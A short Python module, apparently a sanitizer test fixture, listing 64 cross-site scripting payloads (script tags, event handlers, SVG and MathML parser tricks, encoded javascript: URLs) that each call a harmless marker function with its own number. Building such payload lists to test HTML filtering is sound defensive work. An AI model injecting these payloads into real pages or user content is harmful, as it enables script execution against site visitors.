"""64 ways to smuggle a script into a text, written here; each calls `hit` with its own number."""

from __future__ import annotations

_WAYS = r"""
<script>hit(N)</script>
<ScRiPt src="data:text/javascript,hit(N)"></ScRiPt>
<scr<script>ipt>hit(N)</scr</script>ipt>
<script x>hit(N)</script y>
<script>/*<!--*/hit(N)//--></script>
<svg><script>hit(N)</script></svg>
<svg onload=hit(N)>
<svg/onload=hit(N)//
<svg><animate attributeName=href values=javascript:hit(N) begin=0s /><a><text y=9>раз</text></a></svg>
<svg><set attributeName=onmouseover to=hit(N)>
<svg><foreignObject><body onload=hit(N)></foreignObject></svg>
<svg><style><img src=x onerror=hit(N)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=hit(N)>">
<svg><use href="data:image/svg+xml,<svg id=x onload=hit(N)></svg>#x"></use></svg>
<math><mtext><table><mglyph><style><img src=x onerror=hit(N)></style></mglyph></table></mtext></math>
<math><maction actiontype="statusline" xlink:href="javascript:hit(N)">раз</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=hit(N)></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit(N)>
<img src=x onerror=hit(N)>
<img src=x onerror="hit(N)"
<img/src=`x`/onerror=hit(N)>
<img src="x" "onerror=hit(N)" onerror=hit(N)>
<IMG SRC=x OnErRoR=hit(N)>
<img src=x one&#114;ror=hit(N) onerror=&#104;it(N)>
<img src=x:x onerror=hit(N) alt="</title>">
<image src=x onerror=hit(N)>
<img srcset="x 1x" onerror=hit(N)>
<picture><source srcset=x><img onerror=hit(N) src=x></picture>
<!--><img src=x onerror=hit(N)>-->
<!--!><img src=x onerror=hit(N)><!-->
<!-- --!><img src=x onerror=hit(N)> -->
<![CDATA[><img src=x onerror=hit(N)>]]>
<?xml version="1.0"?><img src=x onerror=hit(N)>
<? ><img src=x onerror=hit(N)>
</ ><img src=x onerror=hit(N)>
<%><img src=x onerror=hit(N)>
<noscript><p title="</noscript><img src=x onerror=hit(N)>"></noscript>
<noembed><img title="</noembed><img src=x onerror=hit(N)>"></noembed>
<textarea><img title="</textarea><img src=x onerror=hit(N)>"></textarea>
<title><p title="</title><img src=x onerror=hit(N)>"></title>
<xmp><p title="</xmp><img src=x onerror=hit(N)>"></xmp>
<iframe><p title="</iframe><img src=x onerror=hit(N)>"></iframe>
<template><img src=x onerror=hit(N)></template><plaintext>
<select><style></select><img src=x onerror=hit(N)></style>
<table><td><svg><desc><td><img src=x onerror=hit(N)></table>
<iframe src="javascript:hit(N)"></iframe>
<iframe srcdoc="<script>parent.hit(N)</script>"></iframe>
<object data="javascript:hit(N)"></object>
<embed src="javascript:hit(N)">
<base href="javascript:/a/-hit(N)///////"><a href=x>раз</a>
<meta http-equiv="refresh" content="0;url=javascript:hit(N)">
<link rel=stylesheet href="data:text/css,*{}" onload=hit(N)>
<a href="javascript:hit(N)">раз</a>
<a href=" &#1;javascript:hit(N)">раз</a>
<a href="jav&#x09;ascr&#10;ipt:hit(N)">раз</a>
<a href="JaVaScRiPt&colon;hit&lpar;N&rpar;">раз</a>
<a href="data:text/html,<script>opener.hit(N)</script>" target=x>раз</a>
<form action="javascript:hit(N)"><button>раз</button></form>
<button formaction="javascript:hit(N)" form=x>раз</button><form id=x>
<input autofocus onfocus=hit(N)>
<details open ontoggle=hit(N)>раз</details>
<video><source onerror=hit(N) src=x></video>
<p style="animation-name:x" onanimationstart=hit(N) onpointerover=hit(N) onclick=hit(N)>раз</p>
<marquee onstart=hit(N) onmouseover=hit(N)>раз</marquee>
"""

PAYLOADS = tuple(
    way.replace("hit(N)", f"hit({number})").replace("hit&lpar;N&rpar;", f"hit&lpar;{number}&rpar;")
    for number, way in enumerate(_WAYS.strip().splitlines())
)
